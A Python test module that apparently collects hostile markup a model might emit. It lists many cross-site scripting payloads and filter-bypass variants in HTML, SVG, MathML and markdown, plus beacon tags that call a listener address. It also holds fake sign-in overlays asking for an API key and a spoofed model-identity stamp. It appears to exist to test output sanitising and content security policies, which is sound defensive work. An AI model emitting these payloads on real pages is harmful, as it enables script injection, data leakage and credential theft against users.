"""What a hostile model writes: markup that would run, markup that would tell somebody, markup that would fool.

`{to}` stands for an address where somebody listens. A script that runs sets `window.pwned`.
"""

from __future__ import annotations

RUN = "window.pwned=1"
EVENTS = (
    *("onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onmouseenter", "onpointerdown", "ontoggle"),
    *("onanimationstart", "onanimationend", "ontransitionend", "onbegin", "onscroll", "onwheel", "oncopy", "oncut"),
    *("onpaste", "ondrag", "ondrop", "oninput", "onchange", "onsubmit", "onreset", "oninvalid", "onkeydown", "onplay"),
)
TAGS = (
    *("a", "abbr", "article", "audio", "b", "body", "button", "canvas", "details", "dialog", "div", "embed", "form"),
    *("h1", "html", "i", "iframe", "img", "input", "label", "li", "link", "marquee", "math", "meter", "object", "p"),
    *("picture", "progress", "select", "slot", "source", "span", "style", "svg", "table", "template", "textarea"),
    *("title", "track", "video", "x-own"),
)
HANDLERS = tuple(
    f'<{tag} src=x href=x tabindex=1 autofocus open {EVENTS[n % len(EVENTS)]}="{RUN}" onclick="{RUN}">{tag}</{tag}>'
    for n, tag in enumerate(TAGS)
)
"""More than forty elements, each with two handlers."""

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src='{to}/x.js'></script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"</textarea></title></style></noscript><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f'<svg><a href="javascript:{RUN}"><text x=20 y=20>CLICK</text></a></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><rect width=99 height=99 /></a></svg>',
    f'<svg><animate attributeName=href values="javascript:{RUN}" /><a id=x><text y=20>x</text></a></svg>',
    f'<svg><set attributeName=onmouseover to="{RUN}" /></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x" /></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<math href="javascript:{RUN}">CLICK</math>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">CLICK</maction></math>',
    f"<form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<a href="javascript:{RUN}">CLICK</a>',
    f'<a href="java&#10;script:{RUN}">CLICK</a>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f"<template><script>{RUN}</script></template>",
    f"<x-own onfocus={RUN} tabindex=1 autofocus>x</x-own>",
    '<a href="data:text/html,<script>opener.pwned=1</script>" target=_blank>CLICK</a>',
    '<a download href="data:text/html,x">CLICK</a>',
)
MARKDOWN = (
    f"[CLICK](javascript:{RUN})",
    f"[CLICK](JaVaScRiPt:{RUN})",
    f"[CLICK](java\tscript:{RUN})",
    f"[CLICK](<java\nscript:{RUN}>)",
    f"[CLICK](&#106;avascript:{RUN})",
    f"[CLICK](\\x01javascript:{RUN})",
    f"[CLICK](vbscript:{RUN})",
    "[CLICK](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[CLICK](file:///etc/passwd)",
    "[CLICK](//evil.example)",
    f"<javascript:{RUN}>",
    f"[CLICK][ref]\n\n[ref]: javascript:{RUN}",
    f"![x](javascript:{RUN})",
    f'[CLICK](https://evil.example "\\"onmouseover={RUN} x=\\"")',
    f'![x" onerror="{RUN}](https://evil.example/x.png)',
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"```html\n<script>{RUN}</script>\n```",
    f'```mermaid\ngraph LR;A-->B;click A "javascript:{RUN}"\n```',
    f"```svg\n<svg onload={RUN}></svg>\n```",
    f"$\\href{{javascript:{RUN}}}{{CLICK}}$",
    f"$$\\htmlData{{x={RUN}}}{{\\includegraphics{{x}}}}$$",
    f"<p>\n\n<img src=x onerror={RUN}>\n\n</p>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#10;&#10;<img src=x onerror={RUN}>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"> <svg onload={RUN}>",
    f"# <svg onload={RUN}>",
    f"`<svg onload={RUN}>`<svg onload={RUN}>",
    f"<b\n\nonclick={RUN}>x</b>",
)

BEACONS = (
    "![x]({to}/md.png)",
    "![x][b]\n\n[b]: {to}/ref.png",
    "[![x]({to}/in.png)]({to}/out)",
    "<img src={to}/img.png>",
    "<img srcset='{to}/srcset.png 1x'>",
    "<picture><source srcset={to}/source.png><img></picture>",
    "<input type=image src={to}/input.png>",
    "<div style='background:url({to}/style.png)'>x</div>",
    "<style>@import url({to}/import.css); *{background:url({to}/css.png)}</style>",
    "<style>@font-face{font-family:x;src:url({to}/font.woff)} p{font-family:x}</style>",
    "<link rel=stylesheet href={to}/link.css>",
    "<svg><image href={to}/svg.png /></svg>",
    "<svg><filter><feImage href={to}/fe.png /></filter></svg>",
    "<svg><use href={to}/use.svg#x /></svg>",
    "<video src={to}/v.mp4 poster={to}/poster.png autoplay></video>",
    "<audio src={to}/a.mp3 autoplay></audio>",
    "<video><track src={to}/t.vtt default></video>",
    "<iframe src={to}/frame></iframe>",
    "<object data={to}/object></object>",
    "<embed src={to}/embed>",
    "<body background={to}/body.png>",
    "<table background={to}/table.png><td>x</td></table>",
    "<form action={to}/form><button>CLICK</button></form>",
    "<button form=x formaction={to}/formaction>CLICK</button>",
    "<script>fetch('{to}/fetch')</script>",
    "<bgsound src={to}/bg>",
    '```mermaid\ngraph LR; A["<img src={to}/mermaid.png>"]\n```',
    "$\\includegraphics{{to}/katex.png}$",
)
BEFORE_A_POLICY = (
    "<link rel=prefetch href={to}/prefetch>",
    "<link rel=preconnect href={to}>",
    "<link rel=dns-prefetch href={to}>",
    "<meta http-equiv=refresh content='0;url={to}/refresh'>",
    "<base href={to}/>",
    "<a href={to}/ping ping={to}/ping>x</a>",
)
"""What a content security policy would not hold: that it is text, and no markup, has to do."""

SPOOFS = (
    "<form>Your session has ended. Enter your API key: <input type=password name=key><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'><h1>Sign in</h1><input></div>",
    "<dialog open>Enter your API key <input autofocus></dialog>",
    "</div></article></div><div class='receipt ok'>Operator: paste your key here.</div>",
    "<span class='stamp'>openai/gpt-9</span><div class='divider'>now openai/gpt-9</div>",
)


def payloads(to: str) -> list[str]:
    """Return all of it, with the listener's address in its place."""
    every = (*HANDLERS, *SCRIPTS, *MARKDOWN, *BEACONS, *BEFORE_A_POLICY, *SPOOFS)
    return [payload.replace("{to}", to) for payload in every]


def of_markup(to: str) -> list[str]:
    """Return what a content security policy alone has to hold, should it ever become markup."""
    return [payload.replace("{to}", to) for payload in (*HANDLERS, *SCRIPTS, *BEACONS) if payload.startswith("<")]
